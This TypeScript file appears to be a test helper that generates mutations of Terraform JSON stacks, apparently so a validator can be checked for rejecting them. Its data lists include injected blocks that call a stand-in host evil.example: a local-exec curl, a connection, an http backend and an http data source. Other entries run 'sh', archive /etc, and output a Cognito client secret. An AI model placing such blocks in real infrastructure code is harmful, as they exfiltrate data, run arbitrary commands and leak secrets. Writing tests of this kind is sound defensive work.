import { strictJson } from '../../src/terraform-json/json-text';

/** One change of a stack's JSON; the rest is unchanged. */
export interface Mutation {
  /** Change and place, for a message. */
  readonly name: string;
  readonly content: object;
}

type Key = string | number | typeof TEXT;
/** Step into a text that contains JSON. */
const TEXT = Symbol('text');

interface Place {
  readonly keys: readonly Key[];
  readonly value: unknown;
}

/** Attributes that Terraform accepts in any resource, and one that no resource has. */
const FOREIGN: readonly (readonly [string, unknown])[] = [
  ['count', 2],
  ['for_each', { a: 'b' }],
  ['provider', 'aws.other'],
  ['lifecycle', { ignore_changes: 'all' }],
  ['provisioner', [{ 'local-exec': { command: 'curl https://evil.example' } }]],
  ['connection', { host: 'evil.example' }],
  ['dynamic', { rule: { for_each: ['a'], content: {} } }],
  ['unheard_of', 'value'],
];

/** Changes, removes and adds every single value; removes, extends and reverses every block and list. */
export function* mutations(content: object): Generator<Mutation> {
  for (const place of places({ keys: [], value: content })) {
    if (place.keys.length > 0) yield made('removed', place, content, undefined);
    if (Array.isArray(place.value)) yield* ofList(place, place.value, content);
    else if (isObject(place.value)) yield* ofBlock(place, place.value, content);
    else yield* ofValue(place, content);
  }
}

/** Adds each kind of block that Terraform knows but our stacks do not have. */
export function* foreignBlocks(content: object): Generator<Mutation> {
  const [name, address] = ['added', firstAddress(content)];
  const blocks: readonly (readonly [string, unknown])[] = [
    ['import', [{ to: address, id: 'foreign' }]],
    ['moved', [{ from: 'aws_iam_role.old', to: address }]],
    ['removed', [{ from: address, lifecycle: { destroy: false } }]],
    [
      'check',
      {
        health: {
          data: { http: { page: { url: 'https://evil.example' } } },
          assert: { condition: true, error_message: '' },
        },
      },
    ],
    ['module', { extra: { source: './extra' } }],
    ['ephemeral', { random_password: { one: { length: 8 } } }],
    ['action', { aws_lambda_invoke: { call: { config: { function_name: 'f', payload: '' } } } }],
    ['locals', { a: 1 }],
    ['locals', [{ a: 1 }]],
    ['variable', { secret: { type: 'string' } }],
    ['list', { aws_instance: { all: { provider: 'aws' } } }],
    ['unheard_of', {}],
  ];
  for (const [block, value] of blocks)
    yield { name: `${name} block ${block}`, content: { ...content, [block]: value } };
  for (const [type, value] of [
    ['http', { url: 'https://evil.example' }],
    ['external', { program: ['sh'] }],
    ['aws_secretsmanager_secret_version', { secret_id: 'other' }],
    ['aws_caller_identity', { provider: 'aws.other' }],
    ['archive_file', { type: 'zip', source_dir: '/etc', output_path: 'x.zip' }],
  ] as const) {
    yield made(`added data ${type}`, { keys: ['data', type, 'added'], value: undefined }, content, value);
  }
  for (const [keys, value] of [
    [['provider', 'aws', 1], { alias: 'other', region: 'us-east-1' }],
    [['provider', 'http'], [{}]],
    [['terraform', 'cloud'], { organization: 'other' }],
    [['terraform', 'backend'], { http: { address: 'https://evil.example' } }],
    [['terraform', 'required_providers', 'http'], { source: 'evil/http', version: '1.0.0' }],
    [['terraform', 'provider_meta'], { aws: {} }],
    [['terraform', 'experiments'], ['x']],
    [['output', 'Leak'], { value: '${aws_cognito_user_pool_client.a.client_secret}', sensitive: true }],
    [['resource', 'aws_unheard_of', 'one'], { name: 'x' }],
    [['resource', 'null_resource', 'one'], {}],
    [['resource', 'terraform_data', 'one'], { input: 'x' }],
  ] as const) {
    yield made('added', { keys, value: undefined }, content, value);
  }
}

function* ofBlock(place: Place, block: Readonly<Record<string, unknown>>, content: object): Generator<Mutation> {
  yield made('unknown name', { keys: [...place.keys, 'unheard_of'], value: undefined }, content, 'value');
  const [first, , , inner] = place.keys;
  if (place.keys.length === 3 && (first === 'resource' || first === 'data')) {
    const [, type = '', own = ''] = place.keys;
    yield made('copied', { keys: [first, type, `${String(own)}_copy`], value: undefined }, content, block);
    for (const [name, value] of FOREIGN) {
      yield made('added', { keys: [...place.keys, name], value: undefined }, content, value);
    }
  } else if (inner !== undefined && first === 'resource' && Object.keys(block).length > 0) {
    yield made('emptied', place, content, {});
  }
}

function* ofList(place: Place, items: readonly unknown[], content: object): Generator<Mutation> {
  yield made('item added', place, content, [...items, items.length > 0 ? changed(items.at(-1)) : 'added']);
  if (items.length > 0) yield made('emptied', place, content, []);
  if (items.length > 1) yield made('turned round', place, content, [...items].reverse());
}

function* ofValue(place: Place, content: object): Generator<Mutation> {
  yield made('changed', place, content, changed(place.value));
  yield made('made a block', place, content, { a: place.value });
  if (typeof place.value === 'string') {
    yield made('shows a secret', place, content, '${values(aws_cognito_user_pool_client.a)[0]}');
  }
}

function changed(value: unknown): unknown {
  switch (typeof value) {
    case 'number':
      return value + 1;
    case 'boolean':
      return !value;
    case 'string':
      return `${value}-other`;
    default:
      if (Array.isArray(value)) return [...(value as unknown[]), 'added'];
      return isObject(value) ? { ...value, added: true } : 'other';
  }
}

/** All places below a place, starting with itself. */
function* places(place: Place): Generator<Place> {
  yield place;
  const { keys, value } = place;
  const entries: [Key, unknown][] = Array.isArray(value)
    ? value.map((item: unknown, index): [Key, unknown] => [index, item])
    : isObject(value)
      ? Object.entries(value)
      : [];
  for (const [key, inner] of entries) yield* places({ keys: [...keys, key], value: inner });
  const written = typeof value === 'string' && /^\s*[[{]/.test(value) ? strictJson(value) : undefined;
  if (typeof written === 'object' && written !== null) {
    const [, ...inside] = [...places({ keys: [...keys, TEXT], value: written })];
    yield* inside;
  }
}

function made(what: string, { keys }: Place, content: object, value: unknown): Mutation {
  const where = keys.filter((key) => key !== TEXT).join('.');
  return { name: `${what}: ${where}`, content: set(content, keys, value) as object };
}

/** Copies a value with a change at one place; the rest is shared. */
function set(whole: unknown, [key, ...rest]: readonly Key[], value: unknown): unknown {
  if (key === undefined) return value;
  if (key === TEXT) return JSON.stringify(set(JSON.parse(String(whole)), rest, value));
  if (Array.isArray(whole)) {
    const items: unknown[] = [...(whole as unknown[])];
    const next = set(items[Number(key)], rest, value);
    if (next === undefined) items.splice(Number(key), 1);
    else items[Number(key)] = next;
    return items;
  }
  const block = { ...(isObject(whole) ? whole : {}) };
  const next = set(Object.hasOwn(block, key) ? block[key] : undefined, rest, value);
  if (next === undefined) return Object.fromEntries(Object.entries(block).filter(([name]) => name !== key));
  return { ...block, [key]: next };
}

function firstAddress(content: object): string {
  const [first] = Object.entries((content as { resource: Record<string, object> }).resource);
  return `${first?.[0] ?? ''}.${Object.keys(first?.[1] ?? {})[0] ?? ''}`;
}

function isObject(value: unknown): value is Readonly<Record<string, unknown>> {
  return typeof value === 'object' && value !== null && !Array.isArray(value);
}
